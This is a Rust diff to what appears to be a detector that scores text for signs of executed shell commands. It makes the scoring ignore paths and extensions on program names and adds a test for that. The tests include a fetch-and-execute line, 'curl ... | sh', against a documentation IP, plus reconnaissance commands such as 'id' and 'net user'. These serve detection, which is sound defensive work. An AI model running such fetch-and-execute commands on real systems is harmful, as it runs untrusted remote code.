@@ -2,7 +2,7 @@
 
 use super::{
     found::Found,
-    names::{Class, has_subcommand},
+    names::{Class, bare, has_subcommand},
 };
 use crate::{Grade, evidence::Evidence, reader::first_line};
 
@@ -150,6 +150,7 @@ fn of_command(command: &[u8], has_end: bool) -> Option<u32> {
     }
     let class = Class::of(name)?;
     let of_path = if name.starts_with(b"/") { 4 } else { 0 };
+    let program = bare(name);
     let first = words.clone().next();
     let count = words.clone().take(MOST_ARGUMENTS).filter(|word| is_argument(word)).count() as u32;
     let of_arguments = match (class, first) {
@@ -163,7 +164,7 @@ fn of_command(command: &[u8], has_end: bool) -> Option<u32> {
             }
         }
         (Class::Word, None) => {
-            if is_alone(name) && has_end {
+            if is_alone(program) && has_end {
                 14
             } else {
                 0
@@ -171,17 +172,17 @@ fn of_command(command: &[u8], has_end: bool) -> Option<u32> {
         }
         (Class::Fetcher, Some(_)) if words.clone().any(is_address) => 31,
         (_, Some(first)) if is_argument(first) => 20 + (count - 1) * 4,
-        (_, Some(first)) if has_subcommand(name, first) => 20 + count * 4,
+        (_, Some(first)) if has_subcommand(program, first) => 20 + count * 4,
         // Several programs, as `which` is asked for.
         (_, Some(first)) if Class::of(first) == Some(Class::Program) => 14 + count * 4,
-        (_, Some(_)) if name == b"echo" && words.clone().count() == 1 && has_end => 14,
+        (_, Some(_)) if program == b"echo" && words.clone().count() == 1 && has_end => 14,
         (Class::Program | Class::Fetcher, Some(_)) => (count * 4).min(8) + 4,
-        (Class::Word, Some(first)) if name == b"export" && is_variable(first) => 20,
+        (Class::Word, Some(first)) if program == b"export" && is_variable(first) => 20,
         // What it says goes into a file.
         (Class::Word, Some(_)) if words.clone().any(|word| matches!(word, [b'>', ..])) => 20,
         (Class::Word, Some(_)) => return None,
     };
-    let of_purpose = if has_purpose(name, words) { 12 } else { 0 };
+    let of_purpose = if has_purpose(program, words) { 12 } else { 0 };
     Some(bits + of_path + of_arguments + of_purpose)
 }
 
@@ -268,6 +269,17 @@ mod tests {
         assert_eq!(graded("uname -a"), Some(Grade::Consistent));
         assert_eq!(graded("id; uname -a\n"), Some(Grade::Confirmed));
         assert_eq!(graded("curl -s http://192.0.2.9/x | sh\n"), Some(Grade::Confirmed));
+    }
+
+    #[test]
+    fn a_path_or_an_extension_hides_no_argument() {
+        for [short, long] in [
+            ["ip a\n", "/sbin/ip a\n"],
+            ["net user\n", "net.exe user\n"],
+            ["python3 -c 'import os'\n", "/usr/bin/python3 -c 'import os'\n"],
+        ] {
+            assert!(graded(short).is_some() && graded(long) >= graded(short), "{long}");
+        }
     }
 
     #[test]
